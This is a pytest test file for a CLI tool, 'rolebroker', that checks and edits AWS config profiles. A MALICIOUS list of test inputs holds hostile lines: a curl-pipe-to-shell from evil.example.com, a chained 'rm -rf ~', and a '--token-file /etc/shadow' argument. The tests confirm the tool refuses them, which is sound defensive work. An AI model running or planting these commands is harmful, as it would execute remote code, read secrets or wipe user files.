"""``configure``: verify the broker's profiles, then edit ~/.aws/config line by line."""

from __future__ import annotations

import errno
import os
import shlex
import shutil
import stat
import sys
from collections.abc import Callable
from pathlib import Path

import pytest
from botocore.compat import compat_shell_split
from rolebroker import files, profiles

from tests.client.fakes import CLIENT_SCRIPT, FakeBroker, Reply, Result, rolebroker

INSTALLED = "/usr/local/bin/rolebroker"

HAND_WRITTEN = """\
# My AWS config. Keep this comment.
[default]
region = eu-central-1
output = json

; an old-style comment
[profile legacy]
role_arn = arn:aws:iam::111111111111:role/Legacy
source_profile = default   # trailing text stays too

[sso-session corp]
sso_start_url = https://corp.awsapps.com/start
sso_region = eu-west-1

# notes about prod-admin, written by me
[profile prod-admin]
role_arn = arn:aws:iam::333333333333:role/Admin
source_profile = default

[profile last]
region = us-west-2"""


def run_configure(cli: Callable[..., Result], *args: str) -> Result:
    return cli("configure", *args, which=lambda _name: INSTALLED)


def expected_block(broker: FakeBroker, name: str, region: str = "eu-west-1") -> str:
    return (f"# managed by rolebroker (url={broker.url})\n[profile {name}]\n"
            f"credential_process = {INSTALLED} credential-process --url {broker.url} --role {name}\n"
            f"region = {region}\n")


@pytest.fixture
def aws_config(env: dict[str, str]) -> Path:
    return Path(env["AWS_CONFIG_FILE"])


def test_fresh_config_is_created_privately(cli: Callable[..., Result], broker: FakeBroker, aws_config: Path) -> None:
    result = run_configure(cli)
    assert result.code == 0, result.err
    assert aws_config.read_text() == expected_block(broker, "sandbox-admin") + "\n" + expected_block(
        broker, "prod-admin")
    assert stat.S_IMODE(aws_config.stat().st_mode) == 0o600
    assert stat.S_IMODE(aws_config.parent.stat().st_mode) == 0o700
    assert result.out == ("profile sandbox-admin: added\nprofile prod-admin: added\n"
                          "try: aws sts get-caller-identity --profile sandbox-admin\n")
    assert result.err == ""


def test_every_other_line_is_kept_and_a_second_run_changes_nothing(
        cli: Callable[..., Result], broker: FakeBroker, aws_config: Path) -> None:
    aws_config.parent.mkdir(mode=0o755)
    aws_config.write_text(HAND_WRITTEN)
    aws_config.chmod(0o644)

    first = run_configure(cli, "--role", "sandbox-admin")
    assert first.code == 0, first.err
    after_first = aws_config.read_bytes()
    assert after_first == (HAND_WRITTEN + "\n\n" + expected_block(broker, "sandbox-admin")).encode()
    assert stat.S_IMODE(aws_config.stat().st_mode) == 0o644

    second = run_configure(cli, "--role", "sandbox-admin")
    assert second.code == 0
    assert aws_config.read_bytes() == after_first
    assert "profile sandbox-admin: unchanged" in second.out


def test_hand_written_section_is_left_alone_without_force(cli: Callable[..., Result], broker: FakeBroker,
                                                          aws_config: Path) -> None:
    aws_config.parent.mkdir()
    aws_config.write_text(HAND_WRITTEN + "\n")
    result = run_configure(cli)
    assert result.code == 0
    text = aws_config.read_text()
    assert text == HAND_WRITTEN + "\n\n" + expected_block(broker, "sandbox-admin")
    assert result.err_lines == [
        f"rolebroker: [profile prod-admin] in {aws_config} is not managed by rolebroker; left it alone "
        "(--force replaces it)"]


def test_force_replaces_the_hand_written_section_in_place(cli: Callable[..., Result], broker: FakeBroker,
                                                          aws_config: Path) -> None:
    aws_config.parent.mkdir()
    aws_config.write_text(HAND_WRITTEN + "\n")
    result = run_configure(cli, "--force")
    assert result.code == 0, result.err
    hand_section = ("[profile prod-admin]\nrole_arn = arn:aws:iam::333333333333:role/Admin\n"
                    "source_profile = default\n")
    expected = (HAND_WRITTEN + "\n").replace(hand_section, expected_block(broker, "prod-admin"))
    assert aws_config.read_text() == expected + "\n" + expected_block(broker, "sandbox-admin")
    assert "# notes about prod-admin, written by me\n# managed by rolebroker" in aws_config.read_text()
    assert "profile prod-admin: replaced" in result.out
    again = run_configure(cli)
    assert aws_config.read_text() == expected + "\n" + expected_block(broker, "sandbox-admin")
    assert "profile prod-admin: unchanged" in again.out


def test_managed_section_is_updated_in_place(cli: Callable[..., Result], broker: FakeBroker,
                                             aws_config: Path) -> None:
    old = (f"# managed by rolebroker (url={broker.url})\n[profile sandbox-admin]\n"
           f"credential_process = /old/python /old/rolebroker.py credential-process --url {broker.url} "
           "--role sandbox-admin\nregion = us-east-1\n")
    before, after = "# top\n[default]\nregion = eu-central-1\n\n", "\n# bottom comment\n[profile zzz]\nregion = x\n"
    aws_config.parent.mkdir()
    aws_config.write_text(before + old + after)
    broker.route("GET", "/v1/config", Reply(200, broker.config_text(("sandbox-admin",)), "text/plain"))
    result = run_configure(cli)
    assert result.code == 0, result.err
    assert aws_config.read_text() == before + expected_block(broker, "sandbox-admin") + after
    assert result.out.startswith("profile sandbox-admin: updated\n")


def test_windows_line_endings_are_kept(cli: Callable[..., Result], broker: FakeBroker, aws_config: Path) -> None:
    aws_config.parent.mkdir()
    original = b"[default]\r\nregion = eu-central-1\r\n"
    aws_config.write_bytes(original)
    run_configure(cli, "--role", "sandbox-admin")
    written = aws_config.read_bytes()
    assert written.startswith(original + b"\r\n# managed by rolebroker")
    assert b"\n" not in written.replace(b"\r\n", b"")
    run_configure(cli, "--role", "sandbox-admin")
    assert aws_config.read_bytes() == written


def test_symlinked_config_is_written_through(cli: Callable[..., Result], aws_config: Path, tmp_path: Path) -> None:
    target = tmp_path / "dotfiles" / "aws-config"
    target.parent.mkdir()
    target.write_text("[default]\nregion = eu-central-1\n")
    aws_config.parent.mkdir()
    aws_config.symlink_to(target)
    assert run_configure(cli).code == 0
    assert aws_config.is_symlink()
    assert "[profile sandbox-admin]" in target.read_text()


def test_unknown_role_is_refused(cli: Callable[..., Result], aws_config: Path) -> None:
    result = run_configure(cli, "--role", "nope")
    assert result.code == 1
    assert result.err_lines == ["rolebroker: the broker offers you no role 'nope'; see `rolebroker roles`"]
    assert not aws_config.exists()


def section(url: str, name: str, command: str | None = None, extra: str = "") -> str:
    command = command or f"rolebroker credential-process --url {url} --role {name}"
    return f"[profile {name}]\ncredential_process = {command}\nregion = eu-west-1\n{extra}"


MALICIOUS: list[tuple[str, Callable[[str], str]]] = [
    ("pipe to shell", lambda url: section(url, "sandbox-admin", "curl https://evil.example.com/x | sh")),
    ("other role", lambda url: section(url, "sandbox-admin",
                                       f"rolebroker credential-process --url {url} --role prod-admin")),
    ("other url", lambda url: section(url, "sandbox-admin",
                                      "rolebroker credential-process --url https://evil.example.com --role "
                                      "sandbox-admin")),
    ("extra key", lambda url: section(url, "sandbox-admin", extra="role_arn = arn:aws:iam::1:role/X\n")),
    ("extra argument", lambda url: section(url, "sandbox-admin",
                                           f"rolebroker credential-process --url {url} --role sandbox-admin "
                                           "--token-file /etc/shadow")),
    ("chained command", lambda url: section(url, "sandbox-admin",
                                            f"rolebroker credential-process --url {url} --role sandbox-admin; "
                                            "rm -rf ~")),
    ("other program", lambda url: section(url, "sandbox-admin",
                                          f"/tmp/rolebroker credential-process --url {url} --role sandbox-admin")),
    ("default section", lambda url: "[default]\ncredential_process = rolebroker credential-process\n"),
    ("sso session", lambda url: "[sso-session x]\nsso_start_url = https://evil.example.com\n"),
    ("stray line", lambda url: "export AWS_PROFILE=evil\n" + section(url, "sandbox-admin")),
    ("odd region", lambda url: section(url, "sandbox-admin").replace("eu-west-1", "eu-west-1\\nx")),
    ("odd name", lambda url: section(url, "sandbox-admin").replace("[profile sandbox-admin]",
                                                                    "[profile sandbox admin]")),
    ("twice", lambda url: section(url, "sandbox-admin") + "\n" + section(url, "sandbox-admin")),
]


@pytest.mark.parametrize("make", [m for _, m in MALICIOUS], ids=[n for n, _ in MALICIOUS])
def test_malicious_profiles_are_refused_and_nothing_is_written(
        cli: Callable[..., Result], broker: FakeBroker, aws_config: Path, make: Callable[[str], str]) -> None:
    aws_config.parent.mkdir()
    aws_config.write_text(HAND_WRITTEN)
    good = section(broker.url, "prod-admin")
    broker.route("GET", "/v1/config", Reply(200, good + "\n" + make(broker.url), "text/plain"))
    result = run_configure(cli, "--force")
    assert result.code == 1
    assert result.out == ""
    assert len(result.err_lines) == 1
    assert result.err.startswith("rolebroker: refusing to write profiles: ")
    assert result.err.rstrip().endswith("; nothing was written")
    assert aws_config.read_text() == HAND_WRITTEN


def test_html_instead_of_config_is_refused(cli: Callable[..., Result], broker: FakeBroker, aws_config: Path) -> None:
    broker.route("GET", "/v1/config", Reply(200, "<html>login</html>", "text/html"))
    result = run_configure(cli)
    assert result.err_lines == ["rolebroker: unexpected answer from broker (HTTP 200, text/html)"]
    assert not aws_config.exists()


def test_server_format_with_quoted_url_and_duration_is_accepted() -> None:
    url = "https://x.execute-api.eu-west-1.amazonaws.com/api"
    text = (f"[profile a]\ncredential_process = rolebroker credential-process --url {shlex.quote(url)} --role a\n"
            "region = eu-west-1\n\n"
            f"[profile b]\ncredential_process = rolebroker credential-process --role b --url '{url}' --duration 900\n"
            "output = json\n")
    specs = rolebroker.verify_profiles(text, url + "/")
    assert [(s.name, s.region, s.output, s.duration) for s in specs] == [("a", "eu-west-1", None, None),
                                                                          ("b", None, "json", 900)]


@pytest.mark.parametrize("argv", [
    ["/usr/local/bin/rolebroker"],
    ["/opt/my tools/python3", "/home/me/My Scripts/rolebroker.py"],
    ["C:\\Program Files\\Python39\\python.exe", "C:\\Users\\Me Too\\rolebroker.py"],
    ["/odd/it's \"quoted\"/python", "/a\\b/$HOME/rolebroker.py"],
])
@pytest.mark.parametrize("platform", ["linux", "win32"])
def test_command_line_splits_back_the_way_botocore_splits_it(argv: list[str], platform: str) -> None:
    full = [*argv, "credential-process", "--url", "https://b.example.com/api", "--role", "sandbox-admin"]
    line = rolebroker.quote_command(full, windows=platform == "win32")
    assert compat_shell_split(line, platform=platform) == full


def test_client_command_prefers_the_installed_program() -> None:
    assert rolebroker.client_command(lambda _n: "/usr/bin/rolebroker", "/py", "x.py") == ["/usr/bin/rolebroker"]
    assert rolebroker.client_command(lambda _n: None, "/py", "/a/rolebroker.py") == ["/py", "/a/rolebroker.py"]


def test_botocore_gets_credentials_through_the_written_profile(
        cli: Callable[..., Result], broker: FakeBroker, env: dict[str, str], aws_config: Path, tmp_path: Path,
        monkeypatch: pytest.MonkeyPatch) -> None:
    """The whole path: configure writes the profile, botocore runs it as a credential_process."""
    import botocore.session

    spaced = tmp_path / "my tools"
    spaced.mkdir()
    script = spaced / "rolebroker"
    shutil.copytree(CLIENT_SCRIPT, script, ignore=shutil.ignore_patterns("__pycache__"))
    result = cli("configure", "--role", "sandbox-admin", which=lambda _name: None, executable=sys.executable)
    assert result.code == 0, result.err
    # Point the written command at the copy in a directory with a space in its name.
    text = aws_config.read_text().replace(shlex.quote(str(CLIENT_SCRIPT)), shlex.quote(str(script)))
    assert shlex.quote(str(script)) in text
    aws_config.write_text(text)

    for name, value in env.items():
        monkeypatch.setenv(name, value)
    monkeypatch.delenv("AWS_PROFILE", raising=False)
    monkeypatch.delenv("AWS_ACCESS_KEY_ID", raising=False)
    session = botocore.session.Session(profile="sandbox-admin")
    credentials = session.get_credentials()
    assert credentials is not None
    frozen = credentials.get_frozen_credentials()
    assert frozen.access_key == "FAKEKEY0000000000001"
    assert session.get_config_variable("region") == "eu-west-1"
    assert credentials.method == "custom-process"
    assert broker.count("POST", "/v1/credentials") == 1
    assert os.path.exists(env["XDG_CACHE_HOME"])


# --------------------------------------------------------------------------
# Issue 9, item 4: sections are found exactly as botocore finds them, and the
# default profile is never taken over.


def botocore_profiles(path: Path) -> dict[str, dict[str, str]]:
    from botocore.configloader import build_profile_map, raw_config_parse

    profiles: dict[str, dict[str, str]] = build_profile_map(raw_config_parse(str(path)))["profiles"]
    return profiles


HAND_REGION = "region = ap-southeast-2\n"


@pytest.mark.parametrize("header", [
    '[profile "sandbox-admin"]',
    "[profile 'sandbox-admin']",
    "[profile  sandbox-admin ]",
    "[profile\tsandbox-admin]",
    "[profile sandbox-admin] # a note",
    "[profilex sandbox-admin]",  # botocore only asks startswith("profile")
])
def test_hand_written_profile_in_another_spelling_is_not_taken_over(
        cli: Callable[..., Result], aws_config: Path, header: str) -> None:
    aws_config.parent.mkdir()
    original = f"{header}\n{HAND_REGION}"
    aws_config.write_text(original)
    assert botocore_profiles(aws_config)["sandbox-admin"] == {"region": "ap-southeast-2"}
    result = run_configure(cli, "--role", "sandbox-admin")
    assert result.code == 0, result.err
    assert aws_config.read_text() == original
    assert botocore_profiles(aws_config)["sandbox-admin"] == {"region": "ap-southeast-2"}
    assert result.err_lines == [
        f"rolebroker: [profile sandbox-admin] in {aws_config} is not managed by rolebroker; left it alone "
        "(--force replaces it)"]


def test_force_replaces_a_profile_in_another_spelling_in_place(cli: Callable[..., Result], broker: FakeBroker,
                                                               aws_config: Path) -> None:
    aws_config.parent.mkdir()
    aws_config.write_text(f'[default]\nregion = eu-central-1\n\n[profile "sandbox-admin"]\n{HAND_REGION}')
    result = run_configure(cli, "--role", "sandbox-admin", "--force")
    assert result.code == 0, result.err
    assert aws_config.read_text() == "[default]\nregion = eu-central-1\n\n" + expected_block(broker, "sandbox-admin")
    assert botocore_profiles(aws_config)["sandbox-admin"]["region"] == "eu-west-1"


@pytest.mark.parametrize("text", [
    f"[ profile sandbox-admin ]\n{HAND_REGION}",  # botocore: a section named " profile sandbox-admin ", no profile
    f"[tools]\nnote = x\n  [profile sandbox-admin]\n{HAND_REGION}",  # a continuation line of `note`
    f"[profile sandbox-admin extra]\n{HAND_REGION}",  # three words: botocore ignores it
])
def test_lines_botocore_does_not_read_as_the_profile_do_not_block_it(
        cli: Callable[..., Result], broker: FakeBroker, aws_config: Path, text: str) -> None:
    aws_config.parent.mkdir()
    aws_config.write_text(text)
    assert "sandbox-admin" not in botocore_profiles(aws_config)
    result = run_configure(cli, "--role", "sandbox-admin")
    assert result.code == 0, result.err
    assert aws_config.read_text() == text + "\n" + expected_block(broker, "sandbox-admin")
    assert botocore_profiles(aws_config)["sandbox-admin"]["credential_process"].endswith("--role sandbox-admin")


def default_offered(broker: FakeBroker) -> Reply:
    return Reply(200, broker.config_text(("default", "sandbox-admin")), "text/plain")


@pytest.mark.parametrize("existing", ["", "[default]\nregion = eu-central-1\n",
                                      "[profile default]\nregion = eu-central-1\n"])
def test_default_profile_is_never_written_without_force(cli: Callable[..., Result], broker: FakeBroker,
                                                        aws_config: Path, existing: str) -> None:
    aws_config.parent.mkdir()
    aws_config.write_text(existing)
    broker.route("GET", "/v1/config", default_offered(broker))
    result = run_configure(cli)
    assert result.code == 0, result.err
    written = aws_config.read_text()
    assert written.startswith(existing)
    assert "--role default" not in written
    assert botocore_profiles(aws_config).get("default") == ({"region": "eu-central-1"} if existing else None)
    assert "profile sandbox-admin: added" in result.out
    assert result.err_lines == [
        f"rolebroker: [profile default] would become the default profile in {aws_config}; left it alone "
        "(--force writes it)"]


def test_default_profile_is_written_with_force_replacing_the_default_section(
        cli: Callable[..., Result], broker: FakeBroker, aws_config: Path) -> None:
    aws_config.parent.mkdir()
    aws_config.write_text("[default]\nregion = eu-central-1\n")
    broker.route("GET", "/v1/config", default_offered(broker))
    result = run_configure(cli, "--force")
    assert result.code == 0, result.err
    assert aws_config.read_text().startswith(expected_block(broker, "default"))
    assert botocore_profiles(aws_config)["default"]["credential_process"].endswith("--role default")


def test_a_managed_section_on_the_first_lines_is_updated_not_duplicated(
        cli: Callable[..., Result], broker: FakeBroker, aws_config: Path) -> None:
    aws_config.parent.mkdir()
    stale = expected_block(broker, "sandbox-admin", region="us-east-1")
    assert stale.startswith("# managed by rolebroker")
    aws_config.write_text(stale + "\n[profile legacy]\nregion = x\n")
    broker.route("GET", "/v1/config", Reply(200, broker.config_text(("sandbox-admin",)), "text/plain"))
    result = run_configure(cli)
    assert result.code == 0, result.err
    assert aws_config.read_text() == expected_block(broker, "sandbox-admin") + "\n[profile legacy]\nregion = x\n"
    assert result.out.startswith("profile sandbox-admin: updated\n")


def test_a_hand_written_section_on_the_first_line_is_not_mistaken_for_ours(
        cli: Callable[..., Result], broker: FakeBroker, aws_config: Path) -> None:
    # The line "before" the first one must not be read as the file's last line.
    aws_config.parent.mkdir()
    text = f"[profile sandbox-admin]\n{HAND_REGION}\n# managed by rolebroker (url={broker.url})\n"
    aws_config.write_text(text)
    result = run_configure(cli, "--role", "sandbox-admin")
    assert aws_config.read_text() == text
    assert "not managed by rolebroker" in result.err


def test_managed_profiles_are_read_from_the_first_line_on(broker: FakeBroker) -> None:
    text = expected_block(broker, "gone") + "\n" + expected_block(broker, "kept")
    assert rolebroker.managed_profiles(text) == ["gone", "kept"]
    assert rolebroker.managed_profiles("[profile mine]\nregion = x\n# managed by rolebroker\n") == []


def test_configure_reports_a_failed_write_and_prints_no_success(
        cli: Callable[..., Result], aws_config: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    def disk_full(path: str, data: bytes, mode: int = 0o600) -> None:
        raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setattr(profiles, "atomic_write", disk_full)
    result = run_configure(cli)
    assert result.code == 1
    assert result.out == ""
    assert result.err_lines == [f"rolebroker: cannot write {aws_config}: No space left on device"]
    assert not aws_config.exists()


def test_atomic_write_that_fails_leaves_no_temporary_file(tmp_path: Path) -> None:
    target = tmp_path / "config"
    target.mkdir()  # os.replace cannot put a file over a directory
    with pytest.raises(OSError, match="directory"):
        files.atomic_write(str(target), b"x")
    assert sorted(p.name for p in tmp_path.iterdir()) == ["config"]


def profile_text(url: str, name: str, extra: str = "") -> str:
    return f"[profile {name}]\ncredential_process = rolebroker credential-process --url {url} --role {name}\n{extra}"


@pytest.mark.parametrize(("text", "problem"), [
    ("[default]\ncredential_process = rolebroker credential-process --url {url} --role default\n",
     "section [default] is not a [profile NAME] section"),
    ("[sso-session sandbox-admin]\ncredential_process = rolebroker credential-process --url {url} "
     "--role sandbox-admin\n", "section [sso-session sandbox-admin] is not a [profile NAME] section"),
    (profile_text("{url}", "sandbox-admin", "output = xml\n"), "[profile sandbox-admin] has a strange output 'xml'"),
    (profile_text("{url}", "sandbox-admin", "region = eu-west-١\n"),
     "[profile sandbox-admin] has a strange region 'eu-west-١'"),
    (profile_text("{url}", "sandbox-admin", "region = \u00e9u-west-1\n"),
     "[profile sandbox-admin] has a strange region 'éu-west-1'"),
    (profile_text("{url}", "\u00e9t\u00e9"), "section [profile été] is not a [profile NAME] section"),
    (profile_text("{url}", "-dash"), "section [profile -dash] is not a [profile NAME] section"),
    (profile_text("{url}", "a" * 129), "is not a [profile NAME] section"),
    (profile_text("{url}", "sandbox-admin").replace("--role sandbox-admin", "--role sandbox-admin --duration ٩٠٠"),
     "[profile sandbox-admin] has a strange --duration '٩٠٠'"),
])
def test_broker_profiles_only_with_safe_names_and_values(broker: FakeBroker, text: str, problem: str) -> None:
    with pytest.raises(rolebroker.UnsafeProfile) as caught:
        rolebroker.verify_profiles(text.replace("{url}", broker.url), broker.url)
    assert problem in str(caught.value)


@pytest.mark.parametrize("output", sorted(["json", "text", "table", "yaml", "yaml-stream"]))
def test_every_output_format_of_the_aws_cli_is_accepted(broker: FakeBroker, output: str) -> None:
    (spec,) = rolebroker.verify_profiles(profile_text(broker.url, "a.b_c-1", f"output = {output}\n"), broker.url)
    assert (spec.name, spec.output) == ("a.b_c-1", output)


# Issue 13 §6.5: the broker names itself 127.0.0.1, the user typed localhost.
def test_a_broker_that_names_itself_differently_is_told_what_to_do(cli: Callable[..., Result], broker: FakeBroker,
                                                                    env: dict[str, str], aws_config: Path) -> None:
    typed = broker.url.replace("127.0.0.1", "localhost")
    result = cli("configure", environ=env | {"ROLEBROKER_URL": typed}, which=lambda _name: INSTALLED)
    assert result.code == 1
    assert result.err == (
        f"rolebroker: refusing to write profiles: the broker calls itself {broker.url}, not {typed} (the same "
        f"machine by another name, but profiles and sign-ins are bound to one URL); use its own name: "
        f"export ROLEBROKER_URL={broker.url}, then run `rolebroker configure` again; nothing was written\n")
    assert not aws_config.exists()


def test_a_profile_for_another_broker_says_which_url_to_use(cli: Callable[..., Result], broker: FakeBroker,
                                                            aws_config: Path) -> None:
    broker.route("GET", "/v1/config", Reply(200, section("https://other.example.com", "sandbox-admin"),
                                            "text/plain"))
    result = cli("configure", which=lambda _name: INSTALLED)
    assert result.code == 1
    assert "the broker calls itself https://other.example.com, not " in result.err
    assert "if that is not this broker, its operators must set ROLEBROKER_PUBLIC_URL" in result.err
